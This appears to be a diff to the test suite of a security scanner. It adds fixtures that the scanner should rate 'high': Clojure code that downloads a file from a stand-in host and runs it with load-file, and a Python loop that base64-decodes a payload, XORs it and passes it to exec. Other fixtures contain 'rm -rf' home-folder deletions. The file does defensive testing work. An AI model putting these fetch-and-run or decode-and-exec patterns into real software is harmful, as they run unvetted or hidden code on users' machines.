@@ -42,6 +42,19 @@ def test_a_download_written_and_loaded_is_run(text, file):
     assert worst(text, file) == "high"
 
 
+URL_NAME = """(def src "https://cfg.example-tools.net/boot.clj")
+(defn init []
+  (let [t (fs/create-temp-file)]
+    (spit (str t) (slurp src))
+    (load-file (str t))))
+"""
+
+
+def test_a_name_given_an_address_is_fetched_when_written():
+    assert worst(URL_NAME, "init.clj") == "high"
+    assert worst(URL_NAME.replace("(load-file (str t))", "(println (slurp (str t)))"), "init.clj") != "high"
+
+
 def test_a_download_written_and_only_read_is_no_run():
     assert worst(BB.replace("(load-file out)", "(edn/read-string (slurp out))"), "bb.edn") != "high"
 
@@ -85,8 +98,22 @@ def test_a_decode_chain_through_a_byte_transform_into_exec_is_run(text):
     assert worst(text, "lint.py") == "high"
 
 
-def test_a_decode_chain_only_printed_is_no_run():
-    assert worst(CHAIN.replace("exec(", "print("), "lint.py") != "high"
+LOOP = """import base64
+raw = base64.b64decode(PAYLOAD)
+out = bytearray()
+for b in raw:
+    out.append(b ^ 0x5A)
+exec(out.decode())
+"""
+
+
+def test_a_decode_chain_through_a_loop_into_exec_is_run():
+    assert worst(LOOP, "lint.py") == "high"
+
+
+@pytest.mark.parametrize("text", [CHAIN, LOOP])
+def test_a_decode_chain_only_printed_is_no_run(text):
+    assert worst(text.replace("exec(", "print("), "lint.py") != "high"
 
 
 # --- a person's own folders deleted -------------------------------------------------------------------------
@@ -151,6 +178,10 @@ def test_the_new_readings_are_linear():
     assert_linear("runs", "(spit out (http/get \"https://a.b/c\"))\n" + "(load-file x) " * 40_000,
                   lambda t: audit_bytes(t.encode(), "bb.edn"))
     assert_linear("chain", CHAIN * 2000, lambda t: audit_bytes(t.encode(), "lint.py"))
+    assert_linear("loop", "raw = b64decode(x)\n" + "for b in raw: out.append(b ^ 1)\n" * 30_000 + "exec(out)\n",
+                  lambda t: audit_bytes(t.encode(), "lint.py"))
+    assert_linear("url-names", "".join(f'u{i} = "https://a/{i}"\n' for i in range(20_000)) + "(spit t (slurp u1))\n",
+                  lambda t: audit_bytes(t.encode(), "a.clj"))
     assert_linear("xor", "raw = b64decode(x)\n" + "exec(bytes(c ^ 1 for c in y) " * 30_000 + "\n",
                   lambda t: audit_bytes(t.encode(), "lint.py"))
     assert_linear("own", "rm -rf " + "$HOME/.cache/x " * 30_000 + "\n", lambda t: audit_bytes(t.encode(), "a.sh"))
